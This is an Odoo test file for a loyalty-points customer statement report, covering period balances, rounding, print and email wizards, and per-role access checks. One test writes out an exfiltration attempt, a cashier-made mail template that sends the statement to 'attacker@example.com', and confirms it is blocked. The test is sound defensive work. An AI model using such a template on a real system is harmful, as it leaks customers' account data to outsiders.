from lxml import html

from odoo import Command
from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.tests import new_test_user, tagged

from .test_reports import FEB, LoyaltyPointsReportCommon


@tagged("post_install", "-at_install")
class TestCustomerStatement(LoyaltyPointsReportCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.soon = cls._book(cls.account_a, "earn", 25, expiry_days=10)

    def _render(self, env, account, data):
        content, _type = env["ir.actions.report"]._render_qweb_html(
            "loyalty_points.action_report_customer_statement", account.ids, data=data
        )
        return html.fromstring(content)

    def _cells(self, tree, css):
        return [
            [cell.text_content().replace("\ufeff", "").strip() for cell in row.findall("td")]
            for row in tree.find_class(css)
        ]

    def test_statement_of_a_period(self):
        data = {"date_from": "2026-02-01", "date_to": "2026-02-28"}
        tree = self._render(self.manager_env, self.account_a, data)
        lines = self._cells(tree, "o_statement_line")
        # points with the decimals of the company's points rounding (1: none)
        self.assertEqual([line[3] for line in lines], ["-40", "12", "200", "-7"])
        self.assertEqual([line[4] for line in lines], ["70", "82", "282", "275"])
        self.assertEqual(self._cells(tree, "o_statement_opening")[0][-1], "110")
        self.assertEqual(self._cells(tree, "o_statement_closing")[0][-1], "275")
        self.assertIn("Anna Petrova", tree.text_content())
        # the points expiring soon, with their date
        expiring = self._cells(tree, "o_statement_expiring")
        self.assertTrue(expiring)
        values = self.manager_env["report.loyalty_points.report_customer_statement"]
        values = values._get_report_values(self.account_a.ids, data)
        statement = values["statements"][self.account_a.id]
        self.assertEqual(statement["expiring"], [{"date": self.soon.expiry_date, "points": 25}])
        self.assertEqual((statement["opening"], statement["closing"]), (110, 275))

    def test_statement_points_follow_the_company_rounding(self):
        data = {"date_from": "2026-02-01", "date_to": "2026-02-28"}
        self.company_a.loyalty_points_rounding = 0.01
        tree = self._render(self.manager_env, self.account_a, data)
        lines = self._cells(tree, "o_statement_line")
        self.assertEqual([line[3] for line in lines], ["-40.00", "12.00", "200.00", "-7.00"])
        self.assertEqual(self._cells(tree, "o_statement_closing")[0][-1], "275.00")
        # a finer fraction than the rounding is never hidden
        self.company_a.loyalty_points_rounding = 1.0
        self._book_on(self.account_a, "adjust", 0.5, "2026-02-20", note="half a point")
        tree = self._render(self.manager_env, self.account_a, data)
        self.assertEqual(self._cells(tree, "o_statement_closing")[0][-1], "275.50")
        lines = self._cells(tree, "o_statement_line")
        self.assertEqual([line[3] for line in lines], ["-40", "12", "200", "0.50", "-7"])

    def _cashier_env(self):
        self.cashier.write(
            {"company_ids": [Command.link(self.company_a.id)], "company_id": self.company_a.id}
        )
        return self.env(
            user=self.cashier, context={"allowed_company_ids": self.company_a.ids, "tz": "UTC"}
        )

    def test_a_cashier_cannot_print_nor_send(self):
        Statement = self._cashier_env()["loyalty.points.statement"].with_context(
            active_model="res.partner", active_id=self.customer.id
        )
        with self.assertRaises(AccessError):
            Statement.create({"date_from": FEB[0], "date_to": FEB[1]})
        # the manager prints and sends from the customer
        wizard = (
            self.manager_env["loyalty.points.statement"]
            .with_context(active_model="res.partner", active_id=self.customer.id)
            .create({"date_from": FEB[0], "date_to": FEB[1]})
        )
        self.assertEqual(wizard.account_id, self.account_a)
        action = wizard.action_print()
        self.assertEqual(action["report_name"], "loyalty_points.report_customer_statement")
        self.assertEqual(action["data"], {"date_from": "2026-02-01", "date_to": "2026-02-28"})
        self.assertEqual(wizard.action_send()["res_model"], "mail.compose.message")

    def test_a_manager_of_another_company_gets_no_statement(self):
        intruder = new_test_user(
            self.env,
            login="lp_statement_intruder",
            groups="base.group_user,point_of_sale.group_pos_manager",
            company_id=self.company_b.id,
            company_ids=[Command.set(self.company_b.ids)],
        )
        intruder_env = self.env(user=intruder, context={"allowed_company_ids": self.company_b.ids})
        with self.assertRaises(AccessError):
            intruder_env["loyalty.points.statement"].create({"account_id": self.account_a.id})
        with self.assertRaises(AccessError):
            self._render(intruder_env, self.account_a, {})

    def test_rendering_the_statement_needs_a_pos_manager(self):
        """The report itself checks: a cashier rendering it over RPC (or through
        anything that renders reports) gets an AccessError."""
        Report = self._cashier_env()["ir.actions.report"]
        data = {"date_from": "2026-02-01", "date_to": "2026-02-28"}
        for render in (Report._render_qweb_html, Report._render_qweb_pdf):
            with self.assertRaises(AccessError):
                render("loyalty_points.action_report_customer_statement", self.account_a.ids, data)
        with self.assertRaises(AccessError):
            self._cashier_env()[
                "report.loyalty_points.report_customer_statement"
            ]._get_report_values(self.account_a.ids, data)
        tree = self._render(self.manager_env, self.account_a, data)
        self.assertEqual(self._cells(tree, "o_statement_closing")[0][-1], "275")

    def test_a_cashier_cannot_mail_the_statement_anywhere(self):
        """A cashier with Contact Creation (a new user's default) makes a mail
        template of their own with the statement attached and any address."""
        self.cashier.groups_id = [Command.link(self.env.ref("base.group_partner_manager").id)]
        cashier_env = self._cashier_env()
        template = cashier_env["mail.template"].create(
            {
                "name": "Exfiltrate",
                "model_id": cashier_env["ir.model"]._get_id("loyalty.points.account"),
                "subject": "statement",
                "email_to": "attacker@example.com",
                "report_template_ids": [
                    Command.link(self.env.ref("loyalty_points.action_report_customer_statement").id)
                ],
            }
        )
        with self.assertRaises(AccessError):
            template.send_mail(self.account_a.id)
        self.assertFalse(self.env["mail.mail"].search([("email_to", "=", "attacker@example.com")]))

    def test_a_customer_without_account_gets_a_clear_error(self):
        stranger = self.env["res.partner"].create({"name": "No Account"})
        with self.assertRaises(UserError):
            self.manager_env["loyalty.points.statement"].with_context(
                active_model="res.partner", active_id=stranger.id
            ).create({})

    def test_a_period_ending_before_it_starts_is_refused(self):
        with self.assertRaises(ValidationError):
            self.manager_env["loyalty.points.statement"].create(
                {"account_id": self.account_a.id, "date_from": FEB[1], "date_to": FEB[0]}
            )

    def test_send_by_email_attaches_the_statement_of_the_period(self):
        self.customer.email = "anna@example.com"
        wizard = self.manager_env["loyalty.points.statement"].create(
            {"account_id": self.account_a.id, "date_from": FEB[0], "date_to": FEB[1]}
        )
        action = wizard.action_send()
        composer = (
            self.manager_env["mail.compose.message"].with_context(**action["context"]).create({})
        )
        self.assertIn("statement", composer.subject)
        self.assertIn(self.customer, composer.partner_ids)
        composer.action_send_mail()
        message = self.account_a.message_ids[0]
        self.assertEqual(len(message.attachment_ids), 1)
        # in tests, reports render as HTML: the attachment holds the period
        body = message.attachment_ids.raw.decode()
        tree = html.fromstring(body)
        self.assertEqual(self._cells(tree, "o_statement_closing")[0][-1], "275")
